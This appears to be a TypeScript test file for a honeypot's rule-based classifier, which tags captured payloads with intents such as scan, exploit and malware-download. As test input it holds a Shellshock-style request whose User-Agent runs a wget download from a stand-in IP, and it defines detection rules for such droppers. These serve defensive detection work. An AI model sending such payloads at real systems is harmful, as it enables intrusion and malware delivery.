// The classifier over rule files written here: tags and their order, intent, the index by
// protocol and transport, the version, and what it tells about each rule.

import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import type { Intent, Transport } from '../events/event.js';
import { BUILTIN_RULES_DIR, Classifier, type ClassifiableEvent } from './classifier.js';

const dir = mkdtempSync(join(tmpdir(), 'mitsu-classifier-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Spec {
  id: string;
  intent: Intent;
  match: unknown;
  protocol?: string | string[];
  transport?: Transport;
  cve?: string[];
}

function ruleOf(spec: Spec): Record<string, unknown> {
  return {
    name: `Rule ${spec.id}`,
    description: { en: `About ${spec.id}.`, ja: `${spec.id} について。` },
    examples: [{ port: 80, payload: 'x' }],
    ...spec,
  };
}

function write(name: string, specs: Spec[]): string {
  const file = join(dir, name);
  writeFileSync(file, stringify(specs.map(ruleOf)));
  return file;
}

function event(payload: string, protocol = 'http', transport: Transport = 'tcp'):
ClassifiableEvent {
  const bytes = Buffer.from(payload, 'latin1');
  return { payload_b64: bytes.toString('base64'), payload_len: bytes.length, protocol, transport,
    dst_port: 80, commands: [], credentials: [], fields: {} };
}

const has = (needle: string) => ({ in: 'payload', contains: needle });

const first = write('10-first.yaml', [
  { id: 'probe', intent: 'scan', match: has('GET') },
  { id: 'shellshock', intent: 'exploit', match: has('() {'), cve: ['CVE-2014-6271'],
    protocol: 'http' },
  { id: 'dropper', intent: 'malware-download', match: has('wget http://') },
]);
const second = write('20-second.yaml', [
  { id: 'also-probe', intent: 'scan', match: has('GET') },
  { id: 'ssh-only', intent: 'brute-force', match: has('GET'), protocol: ['ssh', 'telnet'] },
  { id: 'udp-only', intent: 'other', match: has('GET'), transport: 'udp' },
]);
const classifier = Classifier.load([first, second]);

describe('Classifier.classify', () => {
  it('orders tags by intent, strongest first, then by rule order', () => {
    const got = classifier.classify(event('GET /x HTTP/1.1\r\nUser-Agent: () { :; }; ' +
      'wget http://198.51.100.7/x\r\n\r\n'));
    expect(got.tags.map((t) => t.id)).toStrictEqual(['dropper', 'shellshock', 'probe',
      'also-probe']);
    expect(got.intent).toBe('malware-download');
    expect(got.tags[1]).toStrictEqual({ id: 'shellshock', name: 'Rule shellshock',
      intent: 'exploit', cve: ['CVE-2014-6271'] });
  });

  it('gives scan to a bare connection and other to a payload no rule knows', () => {
    expect(classifier.classify(event(''))).toStrictEqual({ tags: [], intent: 'scan' });
    expect(classifier.classify(event('\x16\x03\x01'))).toStrictEqual({ tags: [],
      intent: 'other' });
  });

  it('returns tags the caller may change without touching the rules', () => {
    const got = classifier.classify(event('() {'));
    got.tags[0]!.cve.push('CVE-0000-0000');
    expect(classifier.classify(event('() {')).tags[0]!.cve).toStrictEqual(['CVE-2014-6271']);
  });
});

describe('the index by protocol and transport', () => {
  it('runs only rules without a protocol or naming the event\'s protocol and transport', () => {
    expect(classifier.candidateIds('http', 'tcp')).toStrictEqual(['probe', 'shellshock',
      'dropper', 'also-probe']);
    expect(classifier.candidateIds('telnet', 'tcp')).toStrictEqual(['probe', 'dropper',
      'also-probe', 'ssh-only']);
    expect(classifier.candidateIds('dns', 'udp')).toStrictEqual(['probe', 'dropper',
      'also-probe', 'udp-only']);
  });

  it('never tags an event with a rule of another protocol, even when its bytes match', () => {
    const ids = (protocol: string, transport: Transport) =>
      classifier.classify(event('GET () {', protocol, transport)).tags.map((t) => t.id);
    expect(ids('ssh', 'tcp')).toStrictEqual(['ssh-only', 'probe', 'also-probe']);
    expect(ids('unknown', 'udp')).toStrictEqual(['udp-only', 'probe', 'also-probe']);
    expect(ids('http', 'tcp')).toStrictEqual(['shellshock', 'probe', 'also-probe']);
  });

  it('matchRule runs one rule whatever the protocol', () => {
    expect(classifier.matchRule('shellshock', event('() {', 'ssh'))).toBe(true);
    expect(classifier.matchRule('shellshock', event('{ }', 'http'))).toBe(false);
    expect(() => classifier.matchRule('nope', event(''))).toThrow(RangeError);
  });
});

describe('what the classifier tells about its rules', () => {
  it('lists every rule in load order with its public details', () => {
    expect(classifier.rules.map((r) => r.id)).toStrictEqual(['probe', 'shellshock', 'dropper',
      'also-probe', 'ssh-only', 'udp-only']);
    expect(classifier.rules[1]).toStrictEqual({
      id: 'shellshock', name: 'Rule shellshock',
      description: { en: 'About shellshock.', ja: 'shellshock について。' },
      intent: 'exploit', cve: ['CVE-2014-6271'], family: null, references: [],
      protocols: ['http'], transport: null, ports: [], file: first,
    });
    expect(classifier.rules[4]!.protocols).toStrictEqual(['ssh', 'telnet']);
    expect(classifier.definitions()[0]!.examples).toStrictEqual([{ port: 80, payload: 'x' }]);
  });

  it('has a short version that changes with any rule text and with their order', () => {
    expect(classifier.version).toMatch(/^[0-9a-f]{12}$/);
    expect(Classifier.load([first, second]).version).toBe(classifier.version);
    expect(Classifier.load([second, first]).version).not.toBe(classifier.version);
    const edited = write('30-edited.yaml', [{ id: 'probe', intent: 'other', match: has('GET') }]);
    expect(Classifier.load([edited]).version)
      .not.toBe(Classifier.load([write('31-same.yaml', [{ id: 'probe', intent: 'scan',
        match: has('GET') }])]).version);
  });

  it('loads nothing from no source', () => {
    const empty = Classifier.load([]);
    expect(empty.rules).toStrictEqual([]);
    expect(empty.classify(event('GET'))).toStrictEqual({ tags: [], intent: 'other' });
  });
});

describe('BUILTIN_RULES_DIR', () => {
  it('is the rules folder at the root of the repository', () => {
    const root = fileURLToPath(new URL('../..', import.meta.url));
    expect(BUILTIN_RULES_DIR).toBe(join(root, 'rules') + '/');
    expect(existsSync(join(root, 'package.json'))).toBe(true);
  });
});
